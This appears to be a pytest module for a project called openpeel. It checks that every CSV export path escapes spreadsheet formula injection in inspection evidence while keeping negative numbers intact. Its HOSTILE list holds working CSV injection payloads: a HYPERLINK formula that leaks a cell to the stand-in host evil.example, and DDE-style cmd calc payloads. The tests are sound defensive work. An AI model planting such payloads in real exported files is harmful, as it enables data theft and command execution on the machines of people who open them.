"""No CSV openpeel writes carries a live spreadsheet formula, and no number is mangled.

Hostile evidence (finding texts, titles and sources starting with = + - @ tab CR) goes through
every CSV writer: the year's downloads (`openpeel export`, the site and the web app serve these
files), the evidence CSV export, and the API's `format=csv`. Every cell of every output is then
checked.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from starlette.requests import Request

from openpeel.core.csv_cells import FORMULA_TRIGGERS, guard_cell, needs_guard, unguard_cell
from openpeel.evidence import EvidenceFile, load_evidence_file
from openpeel.evidence.csv_format import read_evidence_csv, write_evidence_csv
from openpeel.publish.cycle import Cycle
from openpeel.publish.export import export_year
from openpeel.web.responses import csv_response

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]

EVIDENCE = """force: northamptonshire
year: 2014
inspections:
  - id: ci
    kind: crime-inspection
    title: "=1+1 Crime inspection"
    published: 2014-11-12
    source: "@evil source"
findings:
{findings}
"""


@pytest.fixture
def hostile(tmp_path: Path) -> EvidenceFile:
    findings = "".join(
        f"  - id: f{i}\n    inspection: ci\n    question: reducing-crime\n    kind: strength\n"
        f"    text: {_yaml_quote(text)}\n"
        for i, text in enumerate(HOSTILE)
    )
    path = tmp_path / "hostile.yaml"
    path.write_text(EVIDENCE.format(findings=findings), encoding="utf-8")
    return load_evidence_file(path)


def _yaml_quote(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    return f'"{escaped}"'


def assert_inert(text: str, where: str) -> list[str]:
    """Every cell is safe to open in a spreadsheet; returns all cells for further checks."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for cell in cells:
        if cell and cell[0] in FORMULA_TRIGGERS:
            float(cell)  # only a plain number may start with + or -
    assert cells, where
    return cells


def test_guard_rule() -> None:
    assert guard_cell("=1+1") == "'=1+1"
    assert guard_cell("-0.5") == "-0.5" and guard_cell(-0.5) == -0.5 and guard_cell("+3") == "+3"
    assert guard_cell("-1e-3") == "-1e-3" and guard_cell(None) is None and guard_cell(True) is True
    assert guard_cell("-0.5 fewer") == "'-0.5 fewer"
    assert guard_cell("plain = text") == "plain = text"
    for text in [*HOSTILE, "'", "''=x", "'-0.5", "-0.5", "", "x", "'x"]:
        assert unguard_cell(str(guard_cell(text))) == text, text
        assert not needs_guard(str(guard_cell(text))[1:]) or str(guard_cell(text)).startswith("'")


def test_downloads_csv_are_inert_and_numbers_stay_numbers(
    hostile: EvidenceFile, publish_con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    out = tmp_path / "downloads"
    written = export_year(Cycle(publish_con, 2014, {"northamptonshire": hostile}), out, ["csv"])
    texts = {p.name: p.read_text(encoding="utf-8") for p in written}
    assert set(texts) == {
        "indicators.csv",
        "judgements.csv",
        "findings.csv",
        "findings-followed.csv",
        "published-grades.csv",
    }
    for name, text in texts.items():
        assert_inert(text, name)
    findings = list(csv.DictReader(io.StringIO(texts["findings.csv"], newline="")))
    assert {r["text"] for r in findings} == {"'" + t.strip() for t in HOSTILE}  # the export strips texts
    assert {r["inspection_title"] for r in findings} == {"'=1+1 Crime inspection"}
    assert {r["source"] for r in findings} == {"'@evil source"}
    # Negative numbers are still numbers: some changes and z-scores are below zero.
    indicators = list(csv.DictReader(io.StringIO(texts["indicators.csv"], newline="")))
    negative = [r["z_score"] for r in indicators if r["z_score"].startswith("-")]
    assert negative and all(float(z) < 0 for z in negative)


def test_downloads_parquet_keep_the_text_as_written(
    hostile: EvidenceFile, publish_con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    out = tmp_path / "downloads"
    export_year(Cycle(publish_con, 2014, {"northamptonshire": hostile}), out, ["parquet"])
    rows = duckdb.sql(f"SELECT text FROM read_parquet('{out / 'findings.parquet'}')").fetchall()
    assert {r[0] for r in rows} == {t.strip() for t in HOSTILE}


def test_evidence_csv_export_is_inert_and_reads_back_unchanged(hostile: EvidenceFile, tmp_path: Path) -> None:
    paths = write_evidence_csv([hostile], tmp_path / "csv")
    for path in paths:
        assert_inert(path.read_text(encoding="utf-8"), path.name)
    (back,) = read_evidence_csv(tmp_path / "csv")
    assert [f.text for f in back.findings] == [t.strip() for t in HOSTILE]  # import strips cells
    assert back.inspections[0].title == "=1+1 Crime inspection"
    assert back.inspections[0].source == "@evil source"


def test_api_csv_is_inert() -> None:
    request = Request({"type": "http", "method": "GET", "path": "/api/v1/findings", "headers": []})
    rows = [{"text": t, "value": -0.5, "year": 2014} for t in HOSTILE]
    response = csv_response(request, rows, ["text", "value", "year"])
    cells = assert_inert(bytes(response.body).decode(), "api")
    assert "-0.5" in cells and "'=HYPERLINK(" in "".join(cells)
